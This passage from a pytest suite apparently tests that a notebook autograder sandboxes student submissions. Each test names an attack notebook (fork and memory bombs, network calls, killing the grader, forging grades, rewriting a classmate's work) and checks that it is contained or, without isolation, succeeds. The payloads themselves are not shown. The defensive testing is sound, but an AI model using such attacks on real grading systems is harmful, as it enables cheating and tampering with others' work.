        assert {k: v for k, v in iso["after"]["submitted"].items() if k.startswith(student + "/")} == {
            k: v for k, v in iso["before"]["submitted"].items() if k.startswith(student + "/")}, student


def test_no_submitted_file_changed_and_the_package_is_unchanged(iso):
    assert iso["after"]["submitted"] == iso["before"]["submitted"]
    assert iso["after"]["pkg"] == iso["before"]["pkg"]


def test_nothing_written_outside_and_nothing_left_running(iso):
    assert iso["canaries"] == [], _summary(iso)
    assert iso["left"] == [], _summary(iso)
    assert leftovers(iso["run"]) == []


@pytest.mark.parametrize("student", sorted(ESCAPES))
def test_the_hook_opened_finds_no_library(iso, student):
    assert all(contained(iso, student).values()), (contained(iso, student), iso["grades"][student])


def test_a_daemon_from_the_kernel_never_edits_the_gradebook(iso):
    scores, _ = iso["grades"]["g-daemon"]
    assert sum(v or 0 for v in scores.values()) == 0, scores
    assert not (iso["run"] / "outside" / "daemon-done").exists()


def test_a_kernel_reading_or_rewriting_a_classmate_finds_nothing(iso):
    assert iso["secret"] not in outputs(iso["run"], "g-copy")
    assert "found 0 notebooks of victim" in outputs(iso["run"], "g-rewrite")
    assert "copied 0 answers" in outputs(iso["run"], "g-copy")
    assert iso["grades"]["victim"] == (FULL, False)
    assert all(contained(iso, "g-copy").values())


def test_no_network_from_the_kernel(iso, listener):
    assert not any(str(iso["run"]) in r for r in listener.received), listener.received


def test_a_kernel_that_kills_its_parent_stops_only_itself(iso):
    assert iso["code"] is not None, _summary(iso)
    assert not (iso["run"] / "outside" / "killed").exists()


def test_the_bombs_hit_their_limits(iso):
    text = outputs(iso["run"], "g-membomb")
    assert "memory bomb held 3072 MB" not in text, text[-500:]
    m = re.search(r"fork bomb: (\d+) processes, fork refused: (\w+)", outputs(iso["run"], "g-forkbomb"))
    assert m is None or (int(m.group(1)) < 400 and m.group(2) == "yes"), m.group(0)  # stopped by a limit
    assert all(contained(iso, "g-membomb", ("a2-q4-check",)).values())


def test_a_sleeper_costs_at_most_its_own_limits(iso):
    line = _line(iso, "g-sleep")
    seconds = line[2] if line is not None else None
    if seconds is None:  # not graded: named in the last line
        assert "g-sleep" in iso["stdout"].strip().splitlines()[-1]
    else:
        assert seconds <= SUBMISSION_LIMIT + 10, line
        assert line[0] < line[1]
    for student in HONEST:
        assert _line(iso, student)[2] < SUBMISSION_LIMIT, _line(iso, student)


def test_what_the_kernel_writes_to_stderr_never_fills_the_grader(iso):
    # A grading process holds about 300 MB (nbgrader, nbformat, gametrees); the kernel wrote 512 MB.
    assert iso["grader_mb"] < 600, (iso["grader_mb"], outputs(iso["run"], "g-stderr")[-300:])


def test_files_in_the_sandbox_are_held_by_its_limits(iso):
    for where in ("tmpfs", "disk"):
        text = outputs(iso["run"], f"g-{where}")
        assert f"{where} held 4096 MB" not in text, text[-400:]
    assert iso["disk_mb"] < 2048, f"the temporary folder's disk lost {iso['disk_mb']} MB while grading"


def test_an_executed_notebook_made_a_pipe_costs_at_most_its_own_limits(iso):
    line = _line(iso, "g-fifo")  # None: not graded (the worker waited on the pipe until it was stopped)
    assert line is not None and line[2] <= SUBMISSION_LIMIT + 10, _summary(iso)


def test_a_forged_line_on_the_grader_s_channel_is_reported(iso):
    scores, _ = iso["grades"]["g-forge"]
    assert scores.get("a2-q4-check") == 0, scores
    v, _ = verdicts(iso["run"], "g-forge")
    said = " ".join(v["a2-q4-check"].get("errors", []) + v["a2-q4-check"].get("flags", [])
                    + v["a2-q4-check"].get("lines", []))
    assert "wrote to the grader's channel" in said, v["a2-q4-check"]


def test_every_verdict_says_it_was_graded_behind_bubblewrap(iso):
    for student in HONEST:
        assert verdicts(iso["run"], student)[1].get("isolation") == "bwrap", student


# ============================================================================
# Without walls: the same attacks do what they were written for
# ============================================================================


def test_unsafe_grading_says_so(unsafe):
    assert unsafe["code"] == 0, _summary(unsafe)
    said = unsafe["stdout"] + unsafe["stderr"]
    assert re.search(r"unsafe|no isolation|without isolation", said, re.IGNORECASE), _summary(unsafe)
    assert verdicts(unsafe["run"], "victim")[1].get("isolation") == "none"


@pytest.mark.parametrize("student", sorted(ESCAPES))
def test_unsafe_the_hook_opened_reaches_the_library(unsafe, student):
    scores, _ = unsafe["grades"][student]
    assert (scores.get("a2-q4-check"), scores.get("a2-q5-check")) == (4, 2), (scores, _summary(unsafe))


def test_unsafe_a_shell_runs_after_importlib_opened_the_hook(unsafe):
    assert (unsafe["run"] / "outside" / "shell-g-importlib").exists(), _summary(unsafe)


def test_unsafe_a_daemon_gives_itself_full_marks_after_grading(unsafe):
    assert (unsafe["run"] / "outside" / "daemon-done").exists(), _summary(unsafe)
    assert unsafe["grades"]["g-daemon"] == (FULL, False)


def test_unsafe_a_kernel_rewrites_and_reads_a_classmate(unsafe):
    path = "victim/A2/" + A2.name
    assert unsafe["after"]["submitted"][path] != unsafe["before"]["submitted"][path]
    assert "rewritten by g-rewrite" in (unsafe["run"] / "course" / "submitted" / path).read_text()
    assert unsafe["secret"] in outputs(unsafe["run"], "g-copy")


def test_unsafe_a_kernel_edits_the_installed_package(unsafe):
    verdicts_py = unsafe["run"] / "pkg" / "gametrees" / "classroom" / "verdicts.py"
    assert f"# patched by g-patch {unsafe['run']}" in verdicts_py.read_text()
    assert unsafe["after"]["pkg"] != unsafe["before"]["pkg"]


def test_unsafe_a_kernel_reaches_the_network(unsafe, listener):
    assert any(f"g-net {unsafe['run']}" in r for r in listener.received), listener.received


def test_unsafe_a_kernel_writes_outside_and_leaves_a_process(unsafe):
    run = unsafe["run"]
    for path in canaries(run)[:3]:
        assert path in unsafe["canaries"], (path, _summary(unsafe))
    assert any(marker == f"gtlinger-{tag(run)}" for _, marker, _ in unsafe["left"]), unsafe["left"]


def test_unsafe_a_kernel_kills_the_grading_process(built):
    """Alone (``--jobs 1``): the kernel's parent is the grading process itself; it is killed."""
    run = make_run(built, built["tmp"] / "unsafe-killer", ["g-killer"])
    try:
        argv = autograde_command(run / "course", isolation=False, jobs=1)
        got = run_command(argv, run, _env(run), timeout=120)
        killed = run / "outside" / "killed"
        assert killed.exists(), _summary({**got, "left": [], "canaries": []})
        pid = int(killed.read_text().split()[0])
        assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    finally:
        _cleanup(run)


# ============================================================================
# Refusing without walls; an unprivileged account
# ============================================================================


def test_without_bubblewrap_the_command_refuses(built):
    run = make_run(built, built["tmp"] / "nobwrap", ["correct"])
    env = {**_env(run), "PATH": os.path.dirname(sys.executable)}  # no /usr/bin: no bwrap
    got = run_command(autograde_command(run / "course"), run, env, timeout=120)
    lines = got["stderr"].strip().splitlines()
    assert got["code"] == 2, _summary({**got, "left": [], "canaries": []})
    assert len(lines) == 1 and "bubblewrap" in lines[0], lines
    assert "apt-get install bubblewrap" in lines[0] and "--unsafe-no-isolation" in lines[0], lines
    assert not (run / "course" / "autograded").exists()


def _closed_ancestors(paths):
    """Folders above ``paths`` that others cannot enter (mode without o+x)."""
    out = set()
    for path in paths:
        for parent in Path(path).resolve().parents:
            if not parent.stat().st_mode & stat.S_IXOTH:
                out.add(parent)
    return sorted(out)


@pytest.fixture(scope="module")
def grader_account():
    """An unprivileged account (made with useradd when there is none), and the folders it needs opened."""
    if os.geteuid() != 0:
        yield pwd.getpwuid(os.geteuid())
        return
    name, made = "gtgrader", False
    try:
        account = pwd.getpwnam(name)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
                       check=True, timeout=60)
        account, made = pwd.getpwnam(name), True
    try:
        yield account
    finally:
        if made:
            subprocess.run(["userdel", name], check=False, timeout=60)


@pytest.fixture(scope="module")
def unpriv(built, grader_account):
    """Three submissions graded by an unprivileged account (no cgroup for it: rlimits only)."""
    students = ["victim", "g-rewrite", "g-tmpfs"]
    # Not under pytest's tmp folder: other pytest runs close it again (mode 700) while this one runs.
    run = Path(tempfile.mkdtemp(prefix="gametrees-unpriv-")) / "run"
    os.chown(run.parent, grader_account.pw_uid, grader_account.pw_gid)
    opened = _closed_ancestors([os.path.realpath(sys.executable), sys.prefix])
    modes = {p: p.stat().st_mode for p in opened}
    try:
        for p in opened:
            p.chmod(stat.S_IMODE(modes[p]) | stat.S_IXOTH)
        got = grade_run(built, run, students, isolation=True, user=grader_account)
        got["said"] = {s: outputs(run, s) for s in students}  # what the kernels printed
    finally:
        for p, mode in modes.items():
            p.chmod(stat.S_IMODE(mode))
        _cleanup(run)
        shutil.rmtree(run.parent, ignore_errors=True)
    return got


def test_an_unprivileged_grader_keeps_honest_marks_and_contains_an_attack(unpriv):
    assert unpriv["code"] == 0, _summary(unpriv)
    assert unpriv["grades"]["victim"] == (FULL, False), _summary(unpriv)
    assert "found 0 notebooks of victim" in unpriv["said"]["g-rewrite"], unpriv["said"]["g-rewrite"]
    assert unpriv["after"]["submitted"] == unpriv["before"]["submitted"]
    assert unpriv["canaries"] == [] and unpriv["left"] == [], _summary(unpriv)


def test_an_unprivileged_graders_sandbox_counts_its_tmp_in_the_memory_limit(unpriv):
    filled = unpriv["said"]["g-tmpfs"]
    assert "tmpfs held 4096 MB" not in filled, filled[-400:]
